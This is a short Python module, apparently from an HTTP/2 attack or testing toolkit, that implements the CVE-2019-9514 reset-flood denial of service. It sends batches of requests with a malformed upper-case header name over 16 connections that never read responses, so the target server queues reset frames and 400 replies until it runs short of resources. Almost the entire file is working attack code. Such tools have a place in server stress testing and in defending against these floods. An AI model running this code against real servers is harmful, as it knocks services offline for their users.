"""Malformed requests on connections that read nothing: the RST_STREAM and the 400 of each
are queued in the server (CVE-2019-9514, reset flood)."""

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    # An upper-case name is malformed (RFC 9113, 8.2.1).
    head = frames.head(more=frames.field(b"X-Upper", b"1"))

    def batches():
        for first in range(1, 1 << 24, 400):
            yield b"".join(frames.request(stream, head) for stream in range(first, first + 400, 2))

    return await target.flood(16, frames.opening(), batches, reads=False)
